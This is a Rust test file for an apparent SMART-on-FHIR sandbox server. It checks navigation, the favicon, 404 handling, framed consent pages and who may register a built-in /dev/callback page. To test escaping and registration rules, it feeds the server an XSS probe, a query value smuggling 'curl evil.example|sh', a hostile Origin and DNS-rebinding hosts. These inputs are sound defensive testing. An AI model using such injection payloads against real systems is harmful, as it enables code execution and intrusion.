//! Issue 9, item 7 and 8: the site navigation, the favicon, the 404 page, the flow's pages
//! inside a frame, the consent page's words for a patient, and the built-in callback page
//! `/dev/callback` with the rule on who may register it.

use reqwest::header::{CACHE_CONTROL, CONTENT_TYPE, LOCATION, ORIGIN, REFERRER_POLICY};
use reqwest::StatusCode;
use serde_json::{json, Value};

use super::ehr_launch::{desk_sign_in, ehr_app, launch_from, launch_of};
use crate::support::*;

async fn page(s: &Server, path: &str) -> (StatusCode, String) {
    let r = s.http.get(format!("{}{path}", s.base)).send().await.unwrap();
    (r.status(), r.text().await.unwrap())
}

/// The `<nav aria-label="Main">` of a page, and the one link it marks as the current page.
fn main_nav(html: &str) -> (String, Vec<String>) {
    let start = html.find("<nav class=\"site\" aria-label=\"Main\">").unwrap_or_else(|| panic!("no main nav: {html}"));
    let nav = &html[start..start + html[start..].find("</nav>").unwrap()];
    let current = nav
        .split("<a href=\"")
        .skip(1)
        .filter(|a| a.split('>').next().unwrap().contains("aria-current=\"page\""))
        .map(|a| a.split('"').next().unwrap().to_owned())
        .collect();
    (nav.to_owned(), current)
}

#[tokio::test]
async fn every_page_has_the_main_navigation_with_the_current_page_marked() {
    let s = Server::start().await;
    for (path, current) in [
        ("/", "/"),
        ("/ehr", "/ehr"),
        ("/portal", "/portal"),
        ("/launcher", "/launcher"),
        ("/apps", "/apps"),
        ("/account", "/account"),
    ] {
        let (status, html) = page(&s, path).await;
        assert_eq!(status, StatusCode::OK, "{path}");
        let (nav, marked) = main_nav(&html);
        for link in ["/", "/ehr", "/portal", "/launcher", "/apps", "/sandbox", "/account"] {
            assert!(nav.contains(&format!("<a href=\"{link}\"")), "{path}: no link to {link}");
        }
        assert_eq!(marked, vec![current.to_owned()], "{path}: exactly its own link is aria-current");
        assert!(html.contains("<link rel=\"icon\" href=\"/favicon.svg\" type=\"image/svg+xml\">"), "{path}");
    }
    // A desk page with its own brand keeps it, and marks its desk.
    let mut portal = Browser::new(&s);
    desk_sign_in(&s, &mut portal, "/portal", "patient").await;
    portal.get(&format!("{}/portal", s.base)).await;
    assert!(portal.page.contains("<a href=\"/portal\">"), "the portal's own brand link stays");
    assert_eq!(main_nav(&portal.page).1, vec!["/portal".to_owned()]);
    let (_, not_found) = page(&s, "/nowhere").await;
    assert!(main_nav(&not_found).1.is_empty(), "the 404 page marks no page as current");
    s.stop().await;
}

#[tokio::test]
async fn the_favicon_is_an_svg_that_browsers_may_cache() {
    let s = Server::start().await;
    let r = s.http.get(format!("{}/favicon.svg", s.base)).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    assert_eq!(r.headers()[CONTENT_TYPE], "image/svg+xml");
    assert_eq!(r.headers()[CACHE_CONTROL], "public, max-age=86400");
    assert!(r.text().await.unwrap().starts_with("<svg xmlns=\"http://www.w3.org/2000/svg\""));
    let r = s.http.get(format!("{}/favicon.ico", s.base)).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::MOVED_PERMANENTLY);
    assert_eq!(r.headers()[LOCATION], "/favicon.svg");
    assert_eq!(r.headers()[CACHE_CONTROL], "public, max-age=86400");
    s.stop().await;
}

#[tokio::test]
async fn an_unknown_page_is_page_not_found_and_an_unknown_fhir_path_an_operation_outcome() {
    let s = Server::start().await;
    let r = s.http.get(format!("{}/no/such/<page>", s.base)).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::NOT_FOUND);
    assert_eq!(r.headers()[CONTENT_TYPE], "text/html; charset=utf-8");
    let html = r.text().await.unwrap();
    assert!(html.contains("<h1>Page not found</h1>"), "{html}");
    assert!(html.contains("<code>/no/such/%3Cpage%3E</code>"), "the path is shown, escaped: {html}");
    for link in ["/", "/ehr", "/portal", "/launcher", "/apps", "/account"] {
        assert!(html.contains(&format!("<li><a href=\"{link}\">")), "the 404 page links to {link}");
    }
    assert!(!html.contains("For app developers"), "no authorize-error wording on a 404");
    let r = s.http.post(format!("{}/nothing-here", s.base)).form(&[("a", "b")]).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::NOT_FOUND);
    assert!(r.text().await.unwrap().contains("<h1>Page not found</h1>"));

    // The FHIR API answers OperationOutcome for an unknown path and an unknown type.
    let r = s.http.get(format!("{}/Patient/pat-001/a/b/c", s.fhir)).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::NOT_FOUND);
    assert!(r.headers()[CONTENT_TYPE].to_str().unwrap().starts_with("application/fhir+json"));
    let body: Value = r.json().await.unwrap();
    assert_eq!(
        (body["resourceType"].as_str(), body["issue"][0]["code"].as_str()),
        (Some("OperationOutcome"), Some("not-found"))
    );
    let client = s.public_app().await;
    let (code, verifier) = launch(&s, &client, "launch/patient patient/*.rs", "patient", None).await;
    let token = redeem(&s, &client, &code, &verifier).await;
    let r = s.read("/UnknownThing/1", token["access_token"].as_str().unwrap()).await;
    assert!(r.status().is_client_error(), "{}", r.status());
    let body: Value = r.json().await.unwrap();
    assert_eq!(body["resourceType"], "OperationOutcome", "{body}");
    s.stop().await;
}

/// GETs `url` with `browser`'s cookies and the extra `headers`.
async fn get_as(browser: &Browser<'_>, url: &str, headers: &[(&str, &str)]) -> String {
    let mut cookies: Vec<String> = browser.other_cookies.iter().map(|(k, v)| format!("{k}={v}")).collect();
    if let Some(c) = &browser.cookie {
        cookies.push(format!("smartlaunch_session={c}"));
    }
    let mut request = browser.server.http.get(url).header(reqwest::header::COOKIE, cookies.join("; "));
    for (name, value) in headers {
        request = request.header(*name, *value);
    }
    let r = request.send().await.unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    r.text().await.unwrap()
}

const FRAMED: &[(&str, &str)] = &[("sec-fetch-dest", "iframe")];

#[tokio::test]
async fn the_flow_pages_leave_out_the_site_header_inside_a_frame() {
    let s = Server::start().await;
    let client = s.public_app().await;
    let mut b = Browser::new(&s);
    b.get(&s.authorize_url(&s.authorize_params(&client, "launch/patient patient/*.rs", &random(32)))).await;
    assert!(b.is_sign_in());
    let url = b.url.clone();
    let framed = get_as(&b, &url, FRAMED).await;
    assert!(framed.contains("<h1>Sign in</h1>") && !framed.contains("<header class=\"site\">"), "{framed}");
    assert!(!framed.contains("<nav class=\"site\""));
    let tab = get_as(&b, &url, &[("sec-fetch-dest", "document")]).await;
    assert!(tab.contains("<header class=\"site\">") && tab.contains("<nav class=\"site\""), "{tab}");

    b.sign_in("patient", "patient").await;
    assert!(b.is_consent(), "{}", b.page);
    let url = b.url.clone();
    let framed = get_as(&b, &url, FRAMED).await;
    assert!(framed.contains("name=\"decision\" value=\"allow\""));
    assert!(!framed.contains("<header class=\"site\">") && !framed.contains("<nav class=\"site\""), "{framed}");
    assert!(framed.contains("<div class=\"framed-user\">"), "who is signed in, and Sign out, stay inside the frame");
    assert!(framed.contains("Sign out</button>"));
    let tab = get_as(&b, &url, &[]).await;
    assert!(tab.contains("<header class=\"site\">") && tab.contains("<nav class=\"site\""));
    assert!(!tab.contains("<div class=\"framed-user\">"));
    s.stop().await;
}

#[tokio::test]
async fn the_consent_page_speaks_to_a_patient_of_their_own_record() {
    let s = Server::start().await;
    let client = ehr_app(&s, "Diary").await;
    let mut portal = Browser::new(&s);
    desk_sign_in(&s, &mut portal, "/portal", "patient").await;
    portal.get(&format!("{}/portal", s.base)).await;
    let csrf = attr_after(&portal.page, "name=\"csrf\" value=\"").unwrap();
    let launch =
        launch_of(&s, &launch_from(&s, &portal, "/portal/launch", &[("csrf", &csrf), ("client_id", &client)]).await);
    let mut params = s.authorize_params(&client, "launch openid fhirUser patient/*.rs", &random(32));
    params.push(("launch".into(), launch));
    portal.get(&s.authorize_url(&params)).await;
    assert!(portal.is_consent(), "{}", portal.page);
    let page = &portal.page;
    assert!(page.contains("Allow Diary to access your data?"), "{page}");
    assert!(page.contains("Use what you had open in your patient portal when you started it"), "{page}");
    assert!(page.contains("in your health record"));
    assert!(!page.contains("EHR session") && !page.contains("selected patient"), "{page}");

    // A clinician at the EHR reads the EHR wording.
    let mut ehr = Browser::new(&s);
    desk_sign_in(&s, &mut ehr, "/ehr", "clinician").await;
    ehr.get(&format!("{}/ehr/patients/pat-001", s.base)).await;
    let csrf = attr_after(&ehr.page, "name=\"csrf\" value=\"").unwrap();
    let form = [("csrf", csrf.as_str()), ("client_id", &client), ("patient", "pat-001")];
    let launch = launch_of(&s, &launch_from(&s, &ehr, "/ehr/launch", &form).await);
    let mut params = s.authorize_params(&client, "launch openid fhirUser patient/*.rs", &random(32));
    params.push(("launch".into(), launch));
    ehr.get(&s.authorize_url(&params)).await;
    assert!(ehr.is_consent(), "{}", ehr.page);
    assert!(ehr.page.contains("Use the context of the EHR session you launched it from"));
    assert!(ehr.page.contains("of the selected patient") && ehr.page.contains("to access health data?"));
    s.stop().await;
}

fn dev_callback_app(s: &Server) -> Value {
    json!({
        "client_name": "By hand",
        "redirect_uris": [format!("{}/dev/callback", s.base)],
        "grant_types": ["authorization_code"],
        "token_endpoint_auth_method": "none",
    })
}

#[tokio::test]
async fn the_dev_callback_page_shows_the_code_and_a_token_command_for_it() {
    let s = Server::start().await;
    let client = s.register(dev_callback_app(&s)).await["client_id"].as_str().unwrap().to_owned();
    let verifier = random(32);
    let mut params = s.authorize_params(&client, "launch/patient patient/*.rs", &verifier);
    params[2].1 = format!("{}/dev/callback", s.base);
    let mut b = Browser::new(&s);
    b.get(&s.authorize_url(&params)).await;
    b.sign_in("patient", "patient").await;
    b.consent(true, None).await;
    assert!(b.url.starts_with(&format!("{}/dev/callback?code=", s.base)), "{}", b.url);
    let code = query_of(&b.url)["code"].clone();
    assert!(b.page.contains(&format!("<code id=\"code-line\">CODE={code}</code>")), "{}", b.page);
    assert!(b.page.contains(&format!("-d code={code} \\\n")), "the token command has the code filled in");
    assert!(b.page.contains("&#34;$BASE/auth/token&#34;") && b.page.contains("&#34;$CLIENT_ID&#34;"));
    assert!(b.page.contains("&#34;$VERIFIER&#34;") && b.page.contains("&#34;$BASE/dev/callback&#34;"));
    assert!(b.page.contains("<code id=\"state\">state-0123456789abcdef</code>"));
    assert!(b.page.contains("The code lives 60 seconds"));
    // The code redeems with that redirect URI.
    let r = s
        .token(&[
            ("grant_type", "authorization_code"),
            ("code", &code),
            ("redirect_uri", &format!("{}/dev/callback", s.base)),
            ("code_verifier", &verifier),
            ("client_id", &client),
        ])
        .await;
    assert_eq!(r.status(), StatusCode::OK);
    s.stop().await;
}

#[tokio::test]
async fn the_dev_callback_page_renders_only_its_query_escaped_and_is_never_cached() {
    let s = Server::start().await;
    let get = |q: &'static str| {
        let url = format!("{}/dev/callback{q}", s.base);
        let http = s.http.clone();
        async move { http.get(url).send().await.unwrap() }
    };
    let r = get("?code=<b>x</b>&state=%22%3E%3Cscript%3Ealert(1)%3C/script%3E").await;
    assert_eq!(r.status(), StatusCode::OK);
    assert_eq!(r.headers()[REFERRER_POLICY], "no-referrer");
    assert_eq!(r.headers()[CACHE_CONTROL], "no-store");
    let html = r.text().await.unwrap();
    assert!(!html.contains("<script>") && !html.contains("<b>x"), "{html}");
    assert!(html.contains("&#60;script&#62;alert(1)"), "{html}");
    // A code that is not of our alphabet gets no shell line to paste (a crafted link).
    assert!(!html.contains("CODE=") && html.contains("no command line is shown"), "{html}");
    let html = get("?code=abc%3B%20curl%20evil.example%7Csh").await.text().await.unwrap();
    assert!(!html.contains("CODE=") && !html.contains("code-line"), "{html}");
    // An error response.
    let html =
        get("?error=access_denied&error_description=The+user+said+%3Cno%3E&state=s1").await.text().await.unwrap();
    assert!(
        html.contains("<code id=\"error\">access_denied</code>") && html.contains("The user said &#60;no&#62;"),
        "{html}"
    );
    assert!(!html.contains("CODE="));
    // Nothing: how to use it.
    let html = get("").await.text().await.unwrap();
    assert!(html.contains(&format!("Register <code>{}/dev/callback</code>", s.base)), "{html}");
    s.stop().await;
}

async fn register_status(s: &Server, body: &Value, headers: &[(&str, &str)]) -> (StatusCode, Value) {
    let mut r = s.http.post(format!("{}/auth/register", s.base)).json(body);
    for (name, value) in headers {
        r = r.header(*name, *value);
    }
    let r = r.send().await.unwrap();
    (r.status(), r.json().await.unwrap())
}

#[tokio::test]
async fn only_a_registrant_with_the_sandbox_powers_may_name_the_dev_callback_and_no_one_another_page_of_ours() {
    // An open loopback sandbox: a same-site registrant has the powers.
    let s = Server::start().await;
    let body = dev_callback_app(&s);
    let (status, reg) = register_status(&s, &body, &[]).await;
    assert_eq!(status, StatusCode::CREATED, "{reg}");
    // Never from a page of another site.
    let (status, err) = register_status(&s, &body, &[(ORIGIN.as_str(), "https://evil.example")]).await;
    assert_eq!((status, err["error"].as_str()), (StatusCode::FORBIDDEN, Some("access_denied")), "{err}");
    assert!(err["error_description"].as_str().unwrap().contains("another site"), "{err}");
    // Never at a foreign Host (DNS rebinding).
    let (status, err) = register_status(&s, &body, &[("host", "rebind.example")]).await;
    assert_eq!(status, StatusCode::FORBIDDEN, "{err}");
    assert!(err["error_description"].as_str().unwrap().contains("sandbox power"), "{err}");
    // Any other address of ours is refused to everyone.
    for uri in ["/launcher", "/dev/callback?x=1", "/dev/callback/", "/auth/flow/x", "/"] {
        let other = json!({"client_name": "x", "redirect_uris": [format!("{}{uri}", s.base)], "token_endpoint_auth_method": "none"});
        let (status, err) = register_status(&s, &other, &[]).await;
        assert_eq!(
            (status, err["error"].as_str()),
            (StatusCode::BAD_REQUEST, Some("invalid_redirect_uri")),
            "{uri}: {err}"
        );
        assert!(
            err["error_description"].as_str().unwrap().contains("/dev/callback, the built-in callback page"),
            "{err}"
        );
    }
    let localhost = s.base.replace("127.0.0.1", "localhost");
    let other = json!({"client_name": "x", "redirect_uris": [format!("{localhost}/launcher")], "token_endpoint_auth_method": "none"});
    assert_eq!(register_status(&s, &other, &[]).await.0, StatusCode::BAD_REQUEST, "another loopback name is us too");
    s.stop().await;

    // A server with an admin token: a registrant without it may not name /dev/callback…
    let s = Server::start_configured(|c| c.admin_token = Some("admin-secret".into())).await;
    let body = dev_callback_app(&s);
    let (status, err) = register_status(&s, &body, &[]).await;
    assert_eq!((status, err["error"].as_str()), (StatusCode::UNAUTHORIZED, Some("invalid_token")), "{err}");
    assert!(err["error_description"].as_str().unwrap().contains("admin token"), "{err}");
    // …nor add it with its own registration access token (RFC 7592)…
    let reg = s
        .register(
            json!({"client_name": "x", "redirect_uris": [s.redirect_uri()], "token_endpoint_auth_method": "none"}),
        )
        .await;
    let mut update = reg.clone();
    update["redirect_uris"] = json!([s.redirect_uri(), format!("{}/dev/callback", s.base)]);
    let r = s
        .http
        .put(reg["registration_client_uri"].as_str().unwrap())
        .bearer_auth(reg["registration_access_token"].as_str().unwrap())
        .json(&update)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::UNAUTHORIZED, "{}", r.text().await.unwrap());
    // …and with it, it may.
    let (status, reg) = register_status(&s, &body, &[("authorization", "Bearer admin-secret")]).await;
    assert_eq!(status, StatusCode::CREATED, "{reg}");
    s.stop().await;
}

#[tokio::test]
async fn the_dev_callback_under_a_trailing_dot_name_is_still_ours_and_not_for_everyone() {
    // An https deployment with an admin token: `sandbox.example.` is the same host as
    // `sandbox.example` to DNS and the browser, so a registrant without the admin token may
    // not name /dev/callback (or any page of ours) under it.
    let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    let s = Server::start_configured(|c| {
        c.listen = format!("127.0.0.1:{port}").parse().unwrap();
        c.public_url = Some("https://sandbox.example".into());
        c.admin_token = Some("admin-secret".into());
    })
    .await;
    let local = Server::at(&format!("http://127.0.0.1:{port}"));
    for uri in ["https://sandbox.example./dev/callback", "https://SANDBOX.example./launcher"] {
        let body = json!({"client_name": "x", "redirect_uris": [uri], "token_endpoint_auth_method": "none"});
        let (status, err) = register_status(&local, &body, &[]).await;
        assert_eq!(
            (status, err["error"].as_str()),
            (StatusCode::BAD_REQUEST, Some("invalid_redirect_uri")),
            "{uri}: {err}"
        );
    }
    s.stop().await;
}
